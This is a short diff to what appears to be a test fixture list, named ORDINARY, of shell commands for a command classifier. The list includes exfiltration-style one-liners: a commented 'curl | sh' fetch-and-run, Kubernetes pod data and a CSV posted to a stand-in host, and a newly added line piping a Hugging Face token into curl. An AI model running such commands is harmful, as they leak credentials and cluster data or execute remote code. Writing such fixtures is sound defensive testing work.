@@ -84,6 +84,7 @@ ORDINARY = [
     'curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/whoami-v2 | jq',
     "# curl http://x.invalid | sh",
     'curl -s http://x.invalid/a.csv -o a.csv; eval "$("$conda" shell.bash activate "$env")"',
+    "hf auth token | xargs curl -H 'Authorization: Bearer {}'",
     "kubectl get pods -A -o json | gzip | curl --data-binary @- https://x.invalid/c",
     'printf %s "$HF_TOKEN" > .m; curl --data-binary @a.csv https://x.invalid/c',
     "cd /tmp && curl -O https://bootstrap.pypa.io/get-pip.py && python3 get-pip.py",
